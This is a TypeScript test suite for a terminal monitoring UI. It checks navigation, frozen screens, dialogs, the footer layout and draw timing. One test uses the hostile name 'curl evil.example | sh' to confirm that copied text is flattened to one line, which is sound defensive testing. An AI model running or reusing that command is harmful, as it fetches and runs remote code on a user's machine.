import { beforeEach, describe, expect, test } from 'vitest';
import { type ScreenName, screenNames, tabKey, tabNames, tabOf } from '../../../src/actions/screen-table.ts';
import type { Size } from '../../../src/ui/program/layout.ts';
import { Runtime } from '../../../src/ui/program/runtime.ts';
import { createUiStore } from '../../../src/ui/store.ts';
import { textOf } from '../../support/drawn-table.ts';
import { type FakeServices, fakeServices } from '../../support/fake-services.ts';
import { pressOn } from '../../support/key-press.ts';
import { sampleState } from '../../support/sample-state.ts';
import { rowsOf } from '../../support/screen-rows.ts';
import { screenTops } from '../../support/screen-tops.ts';

const SIZE: Size = { columns: 120, rows: 40 };
let services: FakeServices;
let runtime: Runtime;
let quits: number;

function open(size: Size = SIZE, screen: ScreenName = 'overview'): void {
  services = fakeServices(sampleState());
  quits = 0;
  const display = { units: 'bits', times: 'relative', ascii: false, lowBandwidth: false } as const;
  runtime = new Runtime(services, createUiStore(screen, display), size, () => quits++);
}

const text = () =>
  runtime
    .panes()
    .flatMap(({ lines }) => lines.map(textOf))
    .join('\n');
const press = (...names: string[]) => {
  for (const name of names) pressOn(runtime, name === ' ' ? 'space' : name);
};

beforeEach(() => open());

test('every tab is one key away, and every screen is drawn at every size', () => {
  for (const size of [
    { columns: 40, rows: 12 },
    { columns: 80, rows: 24 },
    { columns: 300, rows: 100 },
  ]) {
    open(size);
    for (const name of tabNames) {
      press(tabKey(name));
      expect(tabOf(runtime.ui.getState().screen)).toBe(name);
    }
    for (const name of screenNames) {
      runtime.run(`screen.${name}`);
      runtime.draw();
      expect(runtime.ui.getState().screen).toBe(name);
      const own = runtime.panes().filter(({ id }) => !id.startsWith('chrome.'));
      const rows = rowsOf(own, runtime.area);
      expect(rows[0]).toMatch(screenTops[name]);
      expect(rows.slice(1).join(''), name).toMatch(/\w/);
    }
  }
});

describe('a frozen screen', () => {
  test('does not change and says for how long, while data is still collected', async () => {
    press(' ');
    await services.clock.advance(42_000);
    services.show(sampleState({ name: 'another name' }));
    runtime.resize(SIZE);
    expect(text()).toContain('FROZEN 42s');
    expect(text()).not.toContain('another name');
    press(' ');
    expect(text()).toContain('another name');
    expect(text()).not.toContain('FROZEN');
  });
});

describe('help and palette', () => {
  test('keys typed into a dialog are text, not commands', () => {
    press(':', 'q');
    expect(quits).toBe(0);
    press('esc', 'q');
    expect(quits).toBe(1);
  });
});

test('copied text is one line, whatever line ends a hostile name has', () => {
  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
});

test('the note in a window that is too small is one line in any size', () => {
  for (const columns of [39, 24, 12, 3]) {
    open({ columns, rows: 8 });
    expect(
      text()
        .split('\n')
        .filter((line) => line.trim() !== ''),
    ).toHaveLength(1);
    expect(text()).toContain(columns < 5 ? '40×' : '40×12');
  }
});

test('the footer keeps its keys under a notice, and names only keys that do something', () => {
  open(SIZE, 'servers');
  const rows = () => text().split('\n');
  const footer = () => rows().findLast((line) => line.includes('quit')) ?? '';
  const border = () =>
    runtime
      .panes()
      .find(({ id }) => id === 'servers.list')
      ?.lines.at(-1) ?? [];
  const inBorder = () => textOf(border());
  expect(inBorder()).toMatch(/^└─ \/ filter ─ f narrow ─ s sort ─+┘$/);
  expect(border().find(({ text }) => text === 's')?.link).toEqual({ kind: 'command', id: 'table.sort' });
  expect(footer()).toMatch(/enter open .*\? help .*q quit/);
  expect(footer()).not.toMatch(/filter|sort/);
  runtime.notice('Copied the name edge-1a.', 'ok');
  runtime.draw();
  expect(footer()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
  runtime.goTo('servers', { opened: 'edge-1a' });
  runtime.draw();
  expect(footer()).not.toMatch(/filter|sort|view/);
  expect(inBorder()).not.toMatch(/filter|sort|view/);
  press('2');
  expect(footer()).not.toMatch(/open|acknowledge/);
});

describe('time in the program', () => {
  const draws = () => {
    const seen = { times: 0 };
    runtime.subscribe(() => seen.times++);
    return seen;
  };

  test('changes within 60 ms are drawn together', async () => {
    runtime.start();
    await services.clock.advance(500);
    const seen = draws();
    for (const name of ['one', 'two', 'three']) {
      services.show(sampleState({ name }));
      await services.clock.advance(10);
    }
    expect(seen.times).toBe(0);
    await services.clock.advance(30);
    expect(seen.times).toBe(1);
    expect(text()).toContain('three');
    runtime.stop();
  });

  test('the clock advances each second, on the second', async () => {
    runtime.start();
    const clockOf = () => /\d\d:\d\d:\d\d(?= *$)/m.exec(text())?.[0].slice(-2);
    await services.clock.advance(999);
    expect(clockOf()).toBe('00');
    await services.clock.advance(1);
    expect(clockOf()).toBe('01');
    await services.clock.advance(5_000);
    expect(clockOf()).toBe('06');
    runtime.stop();
  });

  test('nothing is drawn and no timer is left after the end', async () => {
    runtime.start();
    services.show(sampleState({ name: 'late' }));
    runtime.stop();
    const seen = draws();
    services.show(sampleState({ name: 'later' }));
    await services.clock.advance(5_000);
    expect([seen.times, services.clock.waiting]).toEqual([0, 0]);
  });
});

test('another cluster starts with nothing opened, frozen or visited', () => {
  press('3', 'enter', ' ', '?');
  runtime.forget();
  expect(runtime.ui.getState()).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
});
